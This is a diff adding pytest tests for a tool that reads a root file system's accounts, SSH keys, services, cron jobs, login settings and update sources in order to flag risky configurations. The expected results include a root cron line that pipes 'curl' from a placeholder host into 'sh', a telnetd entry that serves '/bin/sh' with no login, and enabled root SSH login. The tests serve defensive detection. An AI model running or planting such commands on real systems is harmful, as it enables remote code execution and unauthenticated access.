@@ -1,0 +1,181 @@
+"""Files of a root file system: accounts, keys, services, jobs, log-in settings, updates.
+
+Spec: evenhand.readers: unix_account, private_key, authorized_keys, systemd_unit, boot_script,
+cron_table, login_setting, update_source.
+"""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from tests.readers.archive_seeds import AUTHORISED, CRONTAB, INITTAB, KEY, PASSWD, SHADOW, UNIT
+from tests.readers.reading import read_bytes
+
+
+def test_accounts_and_what_is_known_of_their_passwords(tmp_path: Path) -> None:
+    found = read_bytes("unix_account", PASSWD, tmp_path, "etc/passwd").rows
+    assert [(a.name, a.uid, a.shell, a.password) for a in found] == [
+        ("root", 0, "/bin/sh", "elsewhere"),
+        ("daemon", 1, "/usr/sbin/nologin", "locked"),
+        ("admin", 0, "/bin/ash", "empty"),
+        ("bare", 5, "/bin/sh", "elsewhere"),
+    ]
+    found = read_bytes("unix_account", SHADOW, tmp_path, "etc/shadow").rows
+    assert [(a.name, a.password, a.scheme, a.digest) for a in found] == [
+        ("root", "hash", "md5", "4f480fab"),
+        ("daemon", "locked", None, None),
+        ("guest", "empty", None, None),
+        ("old", "hash", "des", "c4a94956"),
+    ]
+    assert all("fixedsalt" not in str(row) for row in found), "a hash was kept"
+
+
+def test_files_that_are_no_accounts(tmp_path: Path) -> None:
+    for data in (b"", b"#!/bin/sh\n", b"auth required pam_unix.so\n", b"a:b\n", b"\x7fELF"):
+        found = read_bytes("unix_account", data, tmp_path, "passwd")
+        assert type(found.failure).__name__ == "NotThisFormat", data
+
+
+def test_a_private_key_and_the_key_that_lets_it_in_are_the_same(tmp_path: Path) -> None:
+    (private,) = read_bytes("private_key", KEY, tmp_path, "id").rows
+    (public,) = read_bytes("authorized_keys", AUTHORISED, tmp_path, "authorized_keys").rows
+    assert private.fingerprint == public.fingerprint and public.fingerprint.startswith("SHA256:")
+    assert (private.kind, private.algorithm, private.bits) == ("private key", "ed25519", 256)
+    assert private.encrypted is False
+    assert (public.kind, public.options, public.locator) == (
+        "authorised key",
+        "command,no-pty",
+        "line 2",
+    )
+
+
+@pytest.mark.parametrize(
+    ("options", "algorithm", "encrypted"),
+    [
+        (["-t", "rsa", "-b", "2048", "-m", "PEM", "-N", ""], "rsa", False),
+        (["-t", "ecdsa", "-m", "PKCS8", "-N", ""], "ecdsa", False),
+        (["-t", "ed25519", "-N", "long enough"], "ed25519", True),
+    ],
+)
+def test_keys_as_openssh_makes_them(
+    options: list[str], algorithm: str, encrypted: bool, tmp_path: Path
+) -> None:
+    file = tmp_path / "key"
+    try:
+        subprocess.run(["ssh-keygen", "-q", "-f", file, *options], check=True)
+    except FileNotFoundError:
+        pytest.skip("no ssh-keygen on this machine")
+    (row,) = read_bytes("private_key", file.read_bytes(), tmp_path, "key").rows
+    shown = subprocess.check_output(["ssh-keygen", "-lf", f"{file}.pub"], text=True)
+    bits, fingerprint = shown.split()[:2]
+    assert (row.algorithm, row.fingerprint, row.encrypted) == (algorithm, fingerprint, encrypted)
+    assert row.bits == int(bits)
+
+
+def test_keys_that_cannot_be_read(tmp_path: Path) -> None:
+    broken = b"-----BEGIN RSA PRIVATE KEY-----\nAAAA\n-----END RSA PRIVATE KEY-----\n"
+    found = read_bytes("private_key", broken, tmp_path)
+    assert found.reasons == ["line 1: a private key that cannot be read"]
+    many = b"-----BEGIN PRIVATE KEY-----\n" * 30_000
+    assert type(read_bytes("private_key", many, tmp_path).failure).__name__ == "NotThisFormat"
+    certificate = b"-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"
+    assert (
+        type(read_bytes("private_key", certificate, tmp_path).failure).__name__ == "NotThisFormat"
+    )
+
+
+def test_units(tmp_path: Path) -> None:
+    (row,) = read_bytes("systemd_unit", UNIT, tmp_path, "lib/systemd/system/x.service").rows
+    assert (row.name, row.command, row.direct) == ("x.service", "/usr/sbin/x -D  -p 2", True)
+    conditional = b"[Unit]\nConditionPathExists=/x\n" + UNIT
+    (row,) = read_bytes("systemd_unit", conditional, tmp_path, "x.service").rows
+    assert row.direct is False
+    socket = b"[Socket]\nListenStream=22\nListenStream=/run/x\n[Install]\nWantedBy=sockets.target\n"
+    (row,) = read_bytes("systemd_unit", socket, tmp_path, "x.socket").rows
+    assert (row.listens, row.command) == ("22, /run/x", "x.service")
+    timer = b"[Timer]\nOnCalendar=daily\nUnit=y.service\n"
+    (row,) = read_bytes("systemd_unit", timer, tmp_path, "x.timer").rows
+    assert (row.starts, row.command) == ("OnCalendar=daily", "y.service")
+
+
+def test_inittab_and_scripts(tmp_path: Path) -> None:
+    found = read_bytes("boot_script", INITTAB, tmp_path, "etc/inittab").rows
+    assert [(s.name, s.command, s.starts) for s in found] == [
+        ("rcS", "/etc/init.d/rcS", "boot"),
+        ("telnetd", "/usr/sbin/telnetd -F -l /bin/sh", "boot"),
+    ]
+    local = b"#!/bin/sh\n# one\ntelnetd -p 99\nif [ -e /x ]; then\n  snmpd\nfi\nexit 0\nsshd\n"
+    found = read_bytes("boot_script", local, tmp_path, "etc/rc.local").rows
+    assert [(s.command, s.direct) for s in found] == [
+        ("telnetd -p 99", True),
+        ("snmpd", False),
+        ("sshd", False),
+    ]
+    script = (
+        b"#!/bin/sh /etc/rc.common\nstart_service() {\n procd_set_param command /usr/sbin/x -F\n}\n"
+    )
+    (row,) = read_bytes("boot_script", script, tmp_path, "etc/init.d/x").rows
+    assert (row.name, row.starts, row.command) == ("x", "if turned on", "/usr/sbin/x -F")
+    (row,) = read_bytes("boot_script", b"#!/bin/sh\n", tmp_path, "etc/init.d/S50telnet").rows
+    assert (row.name, row.starts, row.command) == ("telnet", "boot", None)
+
+
+def test_jobs(tmp_path: Path) -> None:
+    found = read_bytes("cron_table", CRONTAB, tmp_path, "etc/crontab").rows
+    assert [(b.kind, b.target, b.because) for b in found] == [
+        (
+            "runs on schedule",
+            "curl -s https://a.example/u | sh",
+            "its table says: 17 * * * * as root",
+        ),
+        ("runs on schedule", "/usr/bin/x", "its table says: @reboot as nobody"),
+    ]
+    own = read_bytes(
+        "cron_table", b"*/5 * * * * /bin/x y\n", tmp_path, "var/spool/cron/crontabs/root"
+    )
+    assert [b.target for b in own.rows] == ["/bin/x y"]
+    (row,) = read_bytes("cron_table", b"#!/bin/sh\n", tmp_path, "etc/cron.daily/rotate").rows
+    assert row.because == "it lies in cron.daily, whose scripts cron runs"
+
+
+def test_who_ssh_lets_in(tmp_path: Path) -> None:
+    text = b"Port 2222\n#PermitRootLogin no\nPermitRootLogin Yes\n"
+    text += b"Match User x\n  PasswordAuthentication no\n"
+    found = read_bytes("login_setting", text, tmp_path, "etc/ssh/sshd_config").rows
+    assert [(s.name, s.value, s.scope) for s in found] == [
+        ("port", "2222", None),
+        ("permitrootlogin", "yes", None),
+        ("passwordauthentication", "no", "Match User x"),
+    ]
+    uci = b"config dropbear\n\toption PasswordAuth 'off'\n\toption Port '22'\n"
+    found = read_bytes("login_setting", uci, tmp_path, "etc/config/dropbear").rows
+    assert [(s.name, s.value) for s in found] == [("passwordauth", "off"), ("port", "22")]
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "target", "because"),
+    [
+        ("etc/opkg.conf", "src/gz a http://a.example/p\n", "http://a.example/p", "not have opkg"),
+        ("etc/opkg.conf", "src a http://a.example/p\noption check_signature\n", "http://a.example/p",
+         "checks the signature"),
+        ("etc/apt/sources.list", "deb [trusted=yes] http://a.example/d x y\n", "http://a.example/d",
+         "not verified"),
+        ("etc/apt/sources.list.d/a.sources", "Types: deb\nURIs: http://a.example/d\n",
+         "http://a.example/d", "checks the signature"),
+        ("etc/apk/repositories", "https://a.example/main\n", "https://a.example/main", "checks"),
+        ("etc/swupdate.cfg", 'globals: {\n  public-key-file = "/k";\n};\n', "the whole image",
+         "names a key"),
+        ("etc/swupdate.cfg", "globals: {\n};\n", "the whole image", "names no key"),
+        ("etc/apt/apt.conf.d/9", 'APT::Get::AllowUnauthenticated "true";\n',
+         'APT::Get::AllowUnauthenticated "true', "not verified"),
+    ],
+)  # fmt: skip
+def test_where_updates_come_from(
+    name: str, text: str, target: str, because: str, tmp_path: Path
+) -> None:
+    (row,) = read_bytes("update_source", text.encode(), tmp_path, name).rows
+    assert (row.kind, row.target) == ("updates itself", target)
+    assert because in row.because
